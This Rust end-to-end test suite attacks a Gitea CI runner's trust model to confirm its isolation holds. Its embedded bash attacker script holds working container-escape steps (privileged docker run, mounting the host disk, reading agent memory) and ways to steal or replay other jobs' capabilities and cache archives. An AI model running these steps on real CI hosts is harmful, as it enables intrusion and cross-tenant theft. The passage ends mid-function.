//! The trust model, attacked (docs/security.md): real jobs through the real Gitea
//! 1.23.8, the controller, the runner image with the supervisor and the real
//! gitea-runner, in containers on a real dockerd and in Pods of the real Kubernetes
//! cluster. An attacker's job tries, from its steps, everything the table lists — its own
//! capability, another task through the facade with a valid capability and session of
//! it, the runner credential, the capability key, the store, other environments, the
//! host, the controller's HTTP port — in each mode of both placements, and the suite
//! asserts exactly what the table says. What a mode does not allow must fail; what it
//! allows is shown, not assumed.
//!
//! The attacker knows what an attacker could: the host paths of the controller's files
//! (defaults are public), the victims' assignment ids, the ids of the victims' cache
//! archives, and — as if read from a Pod spec or `docker inspect` — a valid capability
//! and session of each victim. It is what a fork's pull request can be: a `pull_request`
//! run of another ref of the running victim's repository, whose job has the victim's job
//! key. Both victims are of that repository: the running one on `main` (an entry in the
//! cache, and a save it never commits), the ended one on the branch `ended` (an entry a
//! pull request does not read).

use std::{collections::BTreeMap, time::Duration};

use base64::Engine as _;
use contract::environment::JobDocker;
use controller::{
    assignment::capability::CapabilityKey,
    facade::{Peer, session_scope},
    store::State,
};
use e2e::{
    docker::host,
    kubernetes::{Cluster, NodeSpire, cluster},
    stack::{Controller, Options, PodOptions, PodSpire, SandboxOptions},
};
use proto::{
    facade::v1::{AssignmentCredential, ClaimRequest, UpdateLogRequest},
    runner::v1::{LogRow, UpdateLogRequest as RunnerLog},
};
use testkit::{
    gitea::{Gitea, GiteaOptions, TaskInfo, strip_log_timestamps},
    opensandbox::OpenSandbox,
};

/// What the stack writes as the capability key (tests/e2e/src/stack.rs).
const KEY: &[u8] = b"e2e-capability-key-0123456789abcdef0123456789";

/// Every attempt, in the order of docs/security.md's table.
const ATTEMPTS: [&str; 17] = [
    "own-capability",
    "other-task-claim",
    "other-task-report",
    "replay-after-end",
    "credential",
    "capability-key",
    "store",
    "other-environments",
    "other-svid",
    "same-key-svid",
    "host",
    "user-namespace",
    "controller-http",
    "cache-save-scope",
    "cache-other-ref",
    "cache-evicted-entry",
    "cache-v2-oversized",
];

/// `cache.max_repository_size` in the suite: small, so that the attacker's saves push its
/// repository past it (and the largest entry is this too).
const CACHE_MAX_REPOSITORY: u64 = 16 << 20;
/// What each victim saves.
const VICTIM_ENTRY: u64 = 2 << 20;
/// The attacker's save that pushes the repository past its limit: with both victims' entries
/// it is over by more than one of them (both go, oldest first), and with the repository's
/// other uploads in flight (4 KiB saves not counted yet) it stays within the largest entry.
const FILLER: u64 = CACHE_MAX_REPOSITORY - (3 << 19);

/// A gRPC message as curl sends it: the 5-byte frame header, then the protobuf.
fn frame(message: &impl prost::Message) -> String {
    let body = message.encode_to_vec();
    let mut framed = vec![0u8];
    framed.extend(u32::try_from(body.len()).unwrap().to_be_bytes());
    framed.extend(body);
    base64::engine::general_purpose::STANDARD.encode(framed)
}

/// What the attacker was handed.
struct Loot {
    claim_running: String,
    report_running: String,
    replay_ended: String,
    credential: String,
    key: String,
    store: String,
    gateway: String,
    /// The facade's TCP address (Pods, sandboxes); empty: the environment's socket.
    facade_tcp: String,
    /// Whether that address speaks mTLS (SPIRE) rather than the development mode's h2c.
    facade_tls: bool,
    /// The SPIRE agent's socket in the environment, and the running victim's SPIFFE ID.
    spiffe_socket: String,
    victim_spiffe_id: String,
    /// Where the step downloads `spire-agent`, its tool to fetch its own SVID as files
    /// (empty without SPIRE).
    tool_url: String,
    http_port: u16,
    job_dockerd: bool,
    /// A root-only file on the host and what it holds.
    marker: std::path::PathBuf,
    marker_value: String,
    /// Cache archives by id: the running victim's entry on `main` (which a pull request
    /// reads), its save never committed, and the ended victim's entry on `ended`.
    main_archive: u64,
    open_upload: u64,
    other_ref_archive: u64,
}

/// The cache client of the victims' and the attacker's steps: the v1 calls
/// `actions/cache` makes, with the job's own URL and runtime token.
const CACHE_CLIENT: &str = r#"
cache="${ACTIONS_CACHE_URL%/}"
bearer="Authorization: Bearer $ACTIONS_RUNTIME_TOKEN"
version=abababababababababababababababababababababababababababababababab
reserve() { # KEY BYTES → the upload's id, or the answer when refused (and 1)
  answer=$(curl -s -w ' %{http_code}' -X POST -H "$bearer" -H 'Content-Type: application/json' \
    -d "{\"key\":\"$1\",\"version\":\"$version\",\"cacheSize\":$2}" "$cache/_apis/artifactcache/caches")
  printf '%s' "$answer" | grep -o '"cacheId":[0-9]*' | grep -o '[0-9]*$' || { echo "reserve refused: $answer" | head -c 300; return 1; }
}
upload() { # ID BYTES → the status of the last part (8 MiB parts of random bytes)
  start=0; status=204
  while [ "$start" -lt "$2" ] && [ "$status" = 204 ]; do
    size=$(($2 - start)); [ "$size" -gt 8388608 ] && size=8388608
    head -c "$size" /dev/urandom > /tmp/part
    status=$(curl -s -o /dev/null -w '%{http_code}' -X PATCH -H "$bearer" -H 'Content-Type: application/octet-stream' \
      -H "Content-Range: bytes $start-$((start + size - 1))/*" --data-binary @/tmp/part "$cache/_apis/artifactcache/caches/$1")
    start=$((start + size))
  done
  echo "$status"
}
commit() { # ID BYTES → status
  curl -s -o /dev/null -w '%{http_code}' -X POST -H "$bearer" -H 'Content-Type: application/json' -d "{\"size\":$2}" "$cache/_apis/artifactcache/caches/$1"
}
save() { # KEY BYTES → the entry's id, or why not
  id=$(reserve "$1" "$2") || { echo "$id"; return 1; }
  up=$(upload "$id" "$2"); [ "$up" = 204 ] || { echo "upload: $up"; return 1; }
  committed=$(commit "$id" "$2"); [ "$committed" = 200 ] || { echo "commit: $committed"; return 1; }
  echo "$id"
}
"#;

/// A victim's first step: an entry of its own (and, with `open`, a save it never commits);
/// the ids as `cache-id NAME ID` lines.
fn victim_saves(key: &str, open: bool) -> String {
    let mut script =
        format!("{CACHE_CLIENT}\nset -e\nid=$(save {key} {VICTIM_ENTRY}) || {{ echo \"cannot save {key}: $id\"; exit 1; }}\necho \"cache-id {key} $id\"\n");
    if open {
        script.push_str("open=$(reserve never-committed 4096)\n[ \"$(upload \"$open\" 4096)\" = 204 ]\necho \"cache-id never-committed $open\"\n");
    }
    base64::engine::general_purpose::STANDARD.encode(script)
}

/// The `cache-id NAME ID` a victim's log printed.
fn cache_id(log: &str, name: &str) -> u64 {
    let prefix = format!("cache-id {name} ");
    log.lines()
        .find_map(|line| line.trim().strip_prefix(&prefix))
        .and_then(|id| id.trim().parse().ok())
        .unwrap_or_else(|| panic!("the victim printed no cache id of {name}:\n{log}"))
}

const STEP: &str = r#"
set +e
verdict() { echo "ATTACK $1: $2 $3"; }
facade=/run/gitea-dynamic-runner/facade.sock
grpc() { # PROCEDURE BASE64-FRAME → "http-code grpc-status"
  echo "$2" | base64 -d > /tmp/request.bin
  scheme=http
  if [ "$FACADE_TLS" = true ] && [ -n "${CLIENT_CERT:-}" ]; then where=$FACADE_TCP; scheme=https; set -- "$1" "$2" --insecure --cert "$CLIENT_CERT" --key "$CLIENT_KEY"
  elif [ "$FACADE_TLS" = true ]; then where=$FACADE_TCP; scheme=https; set -- "$1" "$2" --insecure
  elif [ -n "$FACADE_TCP" ]; then where=$FACADE_TCP; set -- "$1" "$2"
  else where=facade; set -- "$1" "$2" --unix-socket "$facade"; fi
  curl -s -o /dev/null -m 10 --http2-prior-knowledge "${@:3}" -H 'content-type: application/grpc' -H 'te: trailers' \
    --data-binary @/tmp/request.bin -w '%{http_code} %header{grpc-status}' "$scheme://$where/facade.v1.FacadeService/$1"
}
facade_verdict() { # NAME "http-code grpc-status": 200 with no status in the headers is a success (status in the trailers)
  case "$2" in
    "200 " | "200 0") verdict "$1" reach "the facade answered OK: $2" ;;
    000*) verdict "$1" refused "no connection: the facade wants a client SVID (mTLS) this step does not hold" ;;
    *) verdict "$1" refused "http and grpc-status: $2" ;;
  esac
}

# Root in the environment, where the job has its own dockerd: a tiny image of the
# environment's own binaries, run with every capability (--privileged is refused where
# the environment's device cgroup cannot hand out every device) and every block device
# the environment's own device cgroup lets through (all of them, or only the loop devices).
root=""
devices='b *:* rmw'
as_root() {
  docker run --rm --cap-add ALL --cap-drop SYS_RESOURCE --security-opt seccomp=unconfined --security-opt apparmor=unconfined --device-cgroup-rule "$devices" \
    --pid=host --cgroupns=host -v /:/env -v /dev:/dev tiny:1 "$@"
}
if [ "$JOB_DOCKERD" = true ] && docker info >/dev/null 2>&1; then
  mkdir -p /tmp/tiny && cd /tmp/tiny
  for b in /bin/sh /bin/cat /bin/mkdir /bin/mount /bin/mknod /bin/ls /bin/grep /usr/bin/head /bin/chmod /bin/sleep /bin/dd; do
    [ -e "$b" ] || continue
    mkdir -p ".$(dirname "$b")" && cp -L "$b" ".$b"
    for l in $(ldd "$b" 2>/dev/null | grep -o '/[^ ]*'); do mkdir -p ".$(dirname "$l")" && cp -L "$l" ".$l"; done
  done
  tar -c . | docker import - tiny:1 >/dev/null
  as_root /bin/sh -c true 2>/dev/null || devices='b 7:* rmw'
  # Root only where such a container runs: a rootless dockerd refuses it.
  as_root /bin/sh -c true 2>/tmp/as-root.err && root=yes
  cd - >/dev/null
fi
no_root() { # why there is no root to escape with
  if [ -s /tmp/as-root.err ]; then echo "its own Docker refused a container with every capability, --pid=host, / and /dev: $(tr '\n' ' ' < /tmp/as-root.err | head -c 160)"
  else echo "no root to escape with"; fi
}

# The host's disk, as root: the filesystem the runtime's /etc/hosts comes from is the
# host's (its device number is in mountinfo); mounted again, it is the same filesystem.
disk=$(awk '$5 == "/etc/hosts" { for (i = 7; i <= NF; i++) if ($i == "-") { print $3, $(i + 1); exit } }' /proc/self/mountinfo)
cat > /tmp/disk.sh <<'DISK'
device=$1; type=$2; target=$3
mknod /host-disk b "${device%:*}" "${device#*:}" || { echo "[disk: cannot make the device $device]"; exit 1; }
mkdir -p /host-fs && mount -t "$type" /host-disk /host-fs || { echo "[disk: cannot mount $device ($type)]"; exit 1; }
echo "[disk: mounted the host's $device]"
cat "/host-fs$target"
DISK
host_read() { # PATH → its content, read as the host's root (with how, in brackets)
  [ -n "$root" ] && [ -n "$disk" ] || return 1
  # shellcheck disable=SC2086 # device and type, two words
  as_root /bin/sh /env/tmp/disk.sh $disk "$1" 2>&1
}
file_verdict() { # NAME PATH NEEDLE
  if grep -qs "$3" "$2"; then verdict "$1" reach "read $2 directly"; return; fi
  out=$(host_read "$2")
  if printf '%s' "$out" | grep -q "$3"; then verdict "$1" reach "read $2 from the host's disk, mounted as root in the environment"
  elif [ -n "$root" ]; then verdict "$1" unshown "root in the environment with every capability, but the host's disk did not mount: $(printf "%s" "$out" | tr "\n" " " | head -c 200)"
  else verdict "$1" refused "not in the environment; $(no_root)"; fi
}

# 1. Its own capability.
found=""
[ -e /run/gitea-dynamic-runner/capability ] && found="$found file"
grep -aqs 'v1\.gitea-task' /proc/1/environ && found="$found /proc/1/environ"
# Any process's environment a step may read: the agent's (non-dumpable) and every child
# of it (a child exec'd is dumpable again: the capability must be in none of them).
for e in /proc/[0-9]*/environ; do grep -aqs 'v1\.gitea-task' "$e" && found="$found $e"; done
env | grep -q 'v1\.gitea-task' && found="$found step-environment"
if [ -n "$root" ]; then
  holders=$(as_root /bin/sh -c 'grep -al "v1\.gitea-task" /proc/[0-9]*/environ' 2>/dev/null | head -n1)
  [ -n "$holders" ] && found="$found $holders(as root in the environment)"
  # Root reads the agent's memory, where the capability lives.
  cat > /tmp/mem.sh <<'MEM'
grep ' rw-p ' "/proc/$1/maps" | while read -r range rest; do
  start=$((0x${range%-*})); end=$((0x${range#*-}))
  dd if="/proc/$1/mem" bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096)) 2>/dev/null | grep -aq 'v1\.gitea-task' && { echo found; break; }
done
MEM
  for p in $(pgrep -f 'supervisor agent'); do
    [ "$(as_root /bin/sh /env/tmp/mem.sh "$p" 2>/dev/null)" = found ] && found="$found /proc/$p/mem(the agent's memory, as root in the environment)"
  done
fi
if [ -n "$found" ]; then verdict own-capability reach "$found"; else verdict own-capability refused "the file is gone; no process's environment a step reads holds it (PID 1 hands it to the agent on a pipe)"; fi

# 2.-4. Another task through this environment's facade socket.
facade_verdict other-task-claim "$(grpc Claim "$CLAIM_RUNNING")"
facade_verdict other-task-report "$(grpc UpdateLog "$REPORT_RUNNING")"
facade_verdict replay-after-end "$(grpc UpdateLog "$REPLAY_ENDED")"

# 5.-7. The controller's files on the host.
file_verdict credential "$CREDENTIAL" '"token"'
file_verdict capability-key "$KEY_FILE" 'e2e-capability-key'
file_verdict store "$STORE" 'gitea-task-'

# 8. Other environments: their loop devices (their dockerd's images and containers).
if [ -n "$root" ]; then
  own=$(sed -n 's/^[0-9]* [0-9]* [0-9:]* [^ ]* \/var\/lib\/docker .* \/dev\/loop\([0-9]*\) .*/\1/p' /proc/self/mountinfo | head -n1)
  cat > /tmp/loops.sh <<'LOOPS'
for d in /sys/block/loop*; do
  n=${d#/sys/block/loop}
  [ -e $d/loop/backing_file ] && [ "$n" != "$1" ] || continue
  mknod /l$n b 7 $n || echo "mknod loop$n failed"; mkdir -p /o$n
  mount /l$n /o$n && ls /o$n | grep -q overlay2 && echo "loop$n"
done
LOOPS
  other=$(as_root /bin/sh /env/tmp/loops.sh "$own" 2>&1 | tr '\n' ' ' | head -c 300)
  case "$other" in
    *loop[0-9]*) verdict other-environments reach "mounted another job's docker storage: $other" ;;
    *) verdict other-environments refused "no other loop device readable (own: loop$own; $other)" ;;
  esac
else
  mine=$(ls /run/gitea-dynamic-runner 2>/dev/null | tr '\n' ' ')
  loops=$(ls /dev/loop* 2>/dev/null | wc -l)
  verdict other-environments refused "its facade directory holds only: $mine; $loops loop devices; $(no_root)"
fi

# 9. Another job's SVID from the SPIRE agent the environment is given (supervisor doctor
#    asks the Workload API which SVIDs it offers this caller).
if [ -n "$SPIFFE_SOCKET" ]; then
  offered=$(supervisor doctor --identity true --spiffe-id "$VICTIM_SPIFFE_ID" --spiffe-endpoint "unix://$SPIFFE_SOCKET" 2>&1 | grep -o 'offered \[[^]]*\]' | head -n1)
  case "$offered" in
    *"\"$VICTIM_SPIFFE_ID\""*) verdict other-svid reach "the agent $offered" ;;
    "") verdict other-svid refused "the agent offered no SVID to this step" ;;
    *) verdict other-svid refused "the agent $offered: its own task's only" ;;
  esac
else
  verdict other-svid refused "no SPIRE agent socket in the environment: $(ls /run/spire 2>&1 | head -c 100)"
fi

# 10. Its own SVID, presented for another task of the same job key: this job is a pull
#     request of another ref whose job has the running victim's key, and it reports with
#     the victim's session (as if leaked), over mTLS with its own SVID as client certificate.
if [ -n "$SPIFFE_SOCKET" ] && [ "$FACADE_TLS" = true ]; then
  mkdir -p /tmp/svid
  if curl -sf -m 120 -o /tmp/spire-agent "$TOOL_URL" && chmod +x /tmp/spire-agent \
    && /tmp/spire-agent api fetch x509 -socketPath "$SPIFFE_SOCKET" -write /tmp/svid >/tmp/fetch.out 2>&1; then
    own=$(grep -o 'spiffe://[^ ]*' /tmp/fetch.out | head -n1)
    answer=$(CLIENT_CERT=/tmp/svid/svid.0.pem CLIENT_KEY=/tmp/svid/svid.0.key grpc UpdateLog "$REPORT_RUNNING")
    case "$answer" in
      "200 " | "200 0") verdict same-key-svid reach "its own SVID $own reported for the victim $VICTIM_SPIFFE_ID: $answer" ;;
      *) verdict same-key-svid refused "its own SVID $own, presented for the victim $VICTIM_SPIFFE_ID: http and grpc-status $answer" ;;
    esac
  else
    verdict same-key-svid unshown "could not fetch its own SVID from $TOOL_URL and the agent: $(tr '\n' ' ' </tmp/fetch.out 2>/dev/null | head -c 200)"
  fi
else
  verdict same-key-svid refused "no SPIRE agent socket and no mTLS facade in the environment"
fi

# 11. The host itself: a file only the host's root reads.
marker=$(host_read "$HOST_MARKER")
if printf '%s' "$marker" | grep -q "^$HOST_MARKER_VALUE"; then
  verdict host reach "as the host's root: read $HOST_MARKER (mode 0600)"
elif [ -n "$root" ]; then
  verdict host unshown "root in the environment with every capability and no seccomp/AppArmor, but the host's disk did not mount"
else
  verdict host refused "uid $(id -u), $(grep NoNewPrivs /proc/self/status | tr -s '\t' ' '), setuid files: $(find / -xdev -type f -perm /6000 2>/dev/null | wc -l); $(no_root)"
fi

# 12. A user namespace of its own: the kernel surface rootless Docker needs.
if unshare --user --map-root-user true 2>/tmp/userns.err; then verdict user-namespace reach "unshare --user --map-root-user worked"
else verdict user-namespace refused "$(head -c 150 /tmp/userns.err)"; fi

# 13. The controller's HTTP port.
if curl -s -m 3 "http://$GATEWAY:$HTTP_PORT/metrics" | grep -q gdr_; then verdict controller-http reach "$GATEWAY:$HTTP_PORT"; else verdict controller-http refused "nothing answers at $GATEWAY:$HTTP_PORT"; fi

# 14.-17. The jobs' cache, through the URL and runtime token every step has (CACHE_CLIENT).
# 14. A pull request's save: where it lands, the test reads on the controller's disk.
if saved=$(save pr-save 4096); then verdict cache-save-scope saved "entry $saved, committed"
else verdict cache-save-scope unshown "its own save failed: $saved"; fi

# 15. Archives by id: main's (a pull request reads main: the route works), another ref's,
#     and main's save never committed.
fetch() { curl -s -o /dev/null -w '%{http_code}' -H "$bearer" "$cache/_apis/artifactcache/artifacts/$1"; }
main=$(fetch "$MAIN_ARCHIVE"); other=$(fetch "$OTHER_REF_ARCHIVE"); open=$(fetch "$OPEN_UPLOAD")
if [ "$main" != 200 ]; then verdict cache-other-ref unshown "main's archive $MAIN_ARCHIVE, which it reads, answered $main"
elif [ "$other" = 200 ] || [ "$open" = 200 ]; then verdict cache-other-ref reach "refs/heads/ended's archive: $other; main's save never committed: $open"
else verdict cache-other-ref refused "main's archive (it reads main) $main; refs/heads/ended's archive $other; main's save never committed $open"; fi

# 16. Main's entry evicted by this job's saves (the repository past its limit) while the
#     step restores it again and again: once gone it must stay gone, not come back as a hit
#     without its archive.
lookup() { # KEY → "status archive-url"
  code=$(curl -s -o /tmp/lookup.json -w '%{http_code}' -H "$bearer" "$cache/_apis/artifactcache/cache?keys=$1&version=$version")
  echo "$code $(grep -o '"archiveLocation":"[^"]*"' /tmp/lookup.json 2>/dev/null | cut -d'"' -f4)"
}
before=$(lookup victim-main)
# The victims' saves count against the repository's uploads until the cache's sweep has
# counted them (seconds after): refused until then, as a patient client, try again.
for _ in $(seq 30); do
  filler=$(save filler "$FILLER") && break
  case "$filler" in *" 429"*) sleep 1 ;; *) break ;; esac
done
if [ "${before%% *}" != 200 ]; then verdict cache-evicted-entry unshown "main's entry was not restored before: $before"
elif ! [ "$filler" -gt 0 ] 2>/dev/null; then verdict cache-evicted-entry unshown "its own save of $FILLER bytes failed: $filler"
else
  hits=0; misses=0; back=0; vanished=0
  for _ in $(seq 240); do
    answer=$(lookup victim-main)
    if [ "${answer%% *}" = 200 ]; then
      [ "$misses" -gt 0 ] && back=$((back + 1))
      hits=$((hits + 1))
      [ "$(curl -s -o /dev/null -w '%{http_code}' -H "$bearer" "${answer#* }")" = 200 ] || vanished=$((vanished + 1))
    else misses=$((misses + 1)); fi
    [ "$misses" -ge 20 ] && break
    sleep 0.25
  done
  said="$hits restores hit ($vanished of them lost the archive between the lookup and the download), then $misses missed"
  if [ "$misses" = 0 ]; then verdict cache-evicted-entry unshown "not evicted within a minute: $said"
  elif [ "$back" -gt 0 ]; then verdict cache-evicted-entry reach "the key came back after its eviction $back times: $said"
  else verdict cache-evicted-entry refused "evicted when its save of $FILLER bytes pushed the repository past its limit: $said; the key stayed gone"; fi
fi
# 17. A v2 entry past the largest entry: blocks of 1 MiB of its own until one is refused or
#     they make more than the limit, then the block list and the commit.
twirp="$cache/twirp/github.actions.results.api.v1.CacheService"
created=$(curl -s -X POST -H "$bearer" -H 'Content-Type: application/json' -d "{\"key\":\"v2-oversized\",\"version\":\"$version\"}" "$twirp/CreateCacheEntry")
target=$(printf '%s' "$created" | grep -o '"signed_upload_url":"[^"]*"' | cut -d'"' -f4)
if [ -z "$target" ]; then verdict cache-v2-oversized unshown "CreateCacheEntry answered: $(printf '%s' "$created" | head -c 200)"
else
  case "$target" in *\?*) join='&' ;; *) join='?' ;; esac
  count=$((CACHE_MAX_ENTRY / 1048576 + 1)); sent=0; block=201
  printf '<?xml version="1.0" encoding="utf-8"?><BlockList>' > /tmp/blocks.xml
  while [ "$sent" -lt "$count" ] && [ "$block" = 201 ]; do
    name=$(printf 'blk%03d' "$sent" | base64)
    head -c 1048576 /dev/urandom > /tmp/block
    block=$(curl -s -o /tmp/block-answer -w '%{http_code}' -X PUT --data-binary @/tmp/block "${target}${join}comp=block&blockid=$name")
    [ "$block" = 201 ] && sent=$((sent + 1)) && printf '<Latest>%s</Latest>' "$name" >> /tmp/blocks.xml
  done
  printf '</BlockList>' >> /tmp/blocks.xml
  said="$sent blocks of 1 MiB taken (the limit $((CACHE_MAX_ENTRY / 1048576)) MiB)"
  if [ "$block" != 201 ]; then said="$said, the next: $block $(head -c 200 /tmp/block-answer)"; fi
  listed=$(curl -s -o /tmp/listed -w '%{http_code}' -X PUT --data-binary @/tmp/blocks.xml "${target}${join}comp=blocklist")
  finalized=$(curl -s -X POST -H "$bearer" -H 'Content-Type: application/json' \
    -d "{\"key\":\"v2-oversized\",\"version\":\"$version\",\"sizeBytes\":\"$((sent * 1048576))\"}" "$twirp/FinalizeCacheEntryUpload" | tr -d '\n')
  said="$said; the list of them: $listed $(grep -o '<Message>[^<]*' /tmp/listed | head -c 160); the commit: $(printf '%s' "$finalized" | head -c 160)"
  if [ "$sent" -lt 2 ]; then verdict cache-v2-oversized unshown "$said"
  elif [ "$sent" -gt $((CACHE_MAX_ENTRY / 1048576)) ] && printf '%s' "$finalized" | grep -q '"ok":true'; then verdict cache-v2-oversized reach "$said"
  else verdict cache-v2-oversized refused "$said"; fi
fi
true
"#;

/// The attacker's workflow, a pull request's with the running victim's job key: the
/// script goes in base64 (Gitea re-serialises each job's YAML, and a long script does
/// not always survive that as a block scalar).
fn attacker(loot: &Loot, runs_on: &str) -> String {
    format!(
        r#"name: attacker
on: pull_request
jobs:
  running:
    runs-on: {runs_on}
    steps:
      - env:
          SCRIPT: "{script}"
          JOB_DOCKERD: "{job_dockerd}"
          CLAIM_RUNNING: "{claim_running}"
          REPORT_RUNNING: "{report_running}"
          REPLAY_ENDED: "{replay_ended}"
          CREDENTIAL: "{credential}"
          KEY_FILE: "{key}"
          STORE: "{store}"
          GATEWAY: "{gateway}"
          FACADE_TCP: "{facade_tcp}"
          FACADE_TLS: "{facade_tls}"
          SPIFFE_SOCKET: "{spiffe_socket}"
          VICTIM_SPIFFE_ID: "{victim_spiffe_id}"
          TOOL_URL: "{tool_url}"
          HTTP_PORT: "{http_port}"
          HOST_MARKER: "{marker}"
          HOST_MARKER_VALUE: "{marker_value}"
          MAIN_ARCHIVE: "{main_archive}"
          OPEN_UPLOAD: "{open_upload}"
          OTHER_REF_ARCHIVE: "{other_ref_archive}"
          CACHE_MAX_ENTRY: "{max_entry}"
          FILLER: "{filler}"
        run: echo "$SCRIPT" | base64 -d > /tmp/attack.sh && bash /tmp/attack.sh
"#,
        script = base64::engine::general_purpose::STANDARD.encode(format!("{CACHE_CLIENT}{STEP}")),
        main_archive = loot.main_archive,
        open_upload = loot.open_upload,
        other_ref_archive = loot.other_ref_archive,
        max_entry = CACHE_MAX_REPOSITORY,
        filler = FILLER,
        job_dockerd = loot.job_dockerd,
        claim_running = loot.claim_running,
        report_running = loot.report_running,
        replay_ended = loot.replay_ended,
        credential = loot.credential,
        key = loot.key,
        store = loot.store,
        gateway = loot.gateway,
        facade_tcp = loot.facade_tcp,
        facade_tls = loot.facade_tls,
        spiffe_socket = loot.spiffe_socket,
        victim_spiffe_id = loot.victim_spiffe_id,
        tool_url = loot.tool_url,
        http_port = loot.http_port,
        marker = loot.marker.display(),
        marker_value = loot.marker_value,
    )
}

/// The ended victim: pushes to the branch `ended` only.
fn ended_workflow(runs_on: &str) -> String {
    format!(
        "name: ended\non:\n  push:\n    branches: [ended]\njobs:\n  ended:\n    runs-on: {runs_on}\n    steps:\n      - env:\n          SCRIPT: \"{saves}\"\n        run: echo \"$SCRIPT\" | base64 -d > /tmp/saves.sh && bash /tmp/saves.sh\n      - run: echo done\n",
        saves = victim_saves("ended-ref", false),
    )
}

/// The running victim: pushes to main only (the attacker's branch holds this file too).
fn running_workflow(runs_on: &str) -> String {
    format!(
        "name: running\non:\n  push:\n    branches: [main]\njobs:\n  running:\n    runs-on: {runs_on}\n    steps:\n      - env:\n          SCRIPT: \"{saves}\"\n        run: echo \"$SCRIPT\" | base64 -d > /tmp/saves.sh && bash /tmp/saves.sh\n      - run: echo victim running\n      - run: sleep 900\n",
        saves = victim_saves("victim-main", true),
    )
}

fn done(tasks: &[TaskInfo]) -> bool {
    !tasks.is_empty() && tasks.iter().all(|t| !t.is_open())
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Placement {
    Docker,
    Kubernetes,
    /// opensandbox-server with its Docker runtime (Kata is not on this machine).
    Sandbox,
}

impl Placement {
    fn runs_on(self) -> &'static str {
        match self {
            Placement::Docker => "[disposable, container, docker]",
            Placement::Kubernetes => "[disposable, container, kubernetes]",
            Placement::Sandbox => "[disposable, vm]",
        }
    }

    fn name(self) -> &'static str {
        match self {
            Placement::Docker => "container.docker",
            Placement::Kubernetes => "container.kubernetes",
            Placement::Sandbox => "vm.opensandbox",
        }
    }
}

/// Runs the victims and the attacker in one mode — on Kubernetes with `spire`, a real SPIRE
/// server and agent (k8s workload attestor), an entry per Pod and the facade on mTLS;
/// returns attempt → (verdict, detail).
async fn attack(placement: Placement, job_docker: JobDocker, spire: bool) -> BTreeMap<String, (String, String)> {
    let _turn = e2e::exclusive().await;
    let docker = host();
    let (gateway, namespace) = match placement {
        Placement::Docker | Placement::Sandbox => (docker.bridge_ip, None),
        Placement::Kubernetes => (Cluster::HOST_IP, Some(tokio::task::block_in_place(|| cluster().namespace("gdr-attack")))),
    };
    let gitea = Gitea::start(GiteaOptions { bind: gateway.into(), ..GiteaOptions::default() }).await;
    let token = gitea.runner_registration_token().await;
    let mut sandboxes = None;
    let mut options = match placement {
        Placement::Docker => Options::new(&gitea.url(), &token, &docker.image("gitea-runner"), &docker.socket),
        Placement::Kubernetes => {
            let image = tokio::task::block_in_place(|| cluster().image("gitea-runner"));
            let mut options = Options::new(&gitea.url(), &token, &image, std::path::Path::new("/nonexistent"));
            options.kubernetes = Some(PodOptions::on(cluster(), namespace.as_deref().unwrap()));
            options
        }
        Placement::Sandbox if spire => unreachable!("the attack suite runs SPIRE on Kubernetes only"),
        Placement::Sandbox => {
            let image = docker.image("gitea-runner");
            let server = sandboxes.insert(tokio::task::block_in_place(|| OpenSandbox::start(&docker.url(), &image)));
            let mut options = Options::new(&gitea.url(), &token, &image, &docker.socket);
            options.opensandbox = Some(SandboxOptions::on_host(server, docker));
            options
        }
    };
    let identities = match (spire, options.kubernetes.as_mut()) {
        (true, Some(pods)) => {
            let (identities, pod_spire) = tokio::task::block_in_place(identities);
            pods.spire = Some(pod_spire);
            Some(identities)
        }
        _ => None,
    };
    let spiffe_socket =
        options.kubernetes.as_ref().and_then(|pods| pods.spire.as_ref()).map_or_else(String::new, |spire| {
            format!("{}/{}", e2e::stack::PodSpire::SOCKET_DIR_IN_POD, spire.agent_socket.file_name().unwrap().to_string_lossy())
        });
    let facade_tcp = match (&options.kubernetes, &options.opensandbox) {
        (Some(pods), _) => pods.facade_listen.clone(),
        (_, Some(sandbox)) => sandbox.facade_listen.clone(),
        _ => String::new(),
    };
    options.capacity = 3;
    options.job_dockerd = job_docker == JobDocker::Root;
    if job_docker == JobDocker::Rootless {
        assert_eq!(placement, Placement::Docker, "rootless_dockerd is a setting of the docker placement");
        options.docker_extra = "rootless_dockerd = true".into();
    }
    let http_port = testkit::free_local_port();
    options.http_listen = format!("127.0.0.1:{http_port}");
    options.extra = format!("[cache]\nmax_repository_size = \"{}M\"\n", CACHE_MAX_REPOSITORY >> 20);
    let mut controller = Controller::start(options).await;
    let key = CapabilityKey::from_bytes(KEY).unwrap();
    let far = u64::MAX / 4;

    // A victim that has ended (of the branch `ended`), and one that runs (claimed) while
    // the attacker runs (of `main`); each saved in the cache first.
    let running_repo = gitea.create_repo("running").await;
    gitea.create_branch(&running_repo, "ended").await;
    gitea.commit_file(&running_repo, "ended", ".gitea/workflows/ended.yml", ended_workflow(placement.runs_on()).as_bytes()).await;
    let ended = gitea.wait_for_tasks(&running_repo, Duration::from_secs(180), done).await[0].clone();
    let ended_log = strip_log_timestamps(&gitea.job_log(&running_repo, ended.run_number, 0).await);
    assert_eq!(ended.status, "success", "{ended_log}");
    let (ended, other_ref_archive) = (ended.id, cache_id(&ended_log, "ended-ref"));
    gitea.commit_workflow(&running_repo, "running.yml", &running_workflow(placement.runs_on())).await;
    let victim_run = |tasks: &[TaskInfo]| tasks.iter().find(|t| t.workflow_id == "running.yml" && t.status == "running").cloned();
    let victim_task = victim_run(&gitea.wait_for_tasks(&running_repo, Duration::from_secs(180), |t| victim_run(t).is_some()).await).unwrap();
    let (running, victim_run_number) = (victim_task.id, victim_task.run_number);
    gitea.wait_for_log(&running_repo, victim_run_number, 0, "victim running").await;
    let victim_saves = strip_log_timestamps(&gitea.job_log(&running_repo, victim_run_number, 0).await);
    let running_id = format!("gitea-task-{running}");
    let record = controller.store.get(&running_id).await.unwrap().unwrap().value;
    assert!(matches!(record.state, State::Claimed { .. }), "{record:?}");
    // The victim's session exactly as the facade handed it out (over TCP bound to the
    // address the victim claimed from).
    let victim_spiffe_id = format!("spiffe://{}/ci/{}/{}/running/{running}", NodeSpire::TRUST_DOMAIN, running_repo.owner, running_repo.name);
    let victim = if identities.is_some() {
        Peer::Spiffe(victim_spiffe_id.clone())
    } else {
        match victim_address(placement, namespace.as_deref(), &running_id, record.environment.as_deref().unwrap()) {
            Some(address) => Peer::Address(address),
            None => Peer::Environment { assignment_id: running_id.clone() },
        }
    };

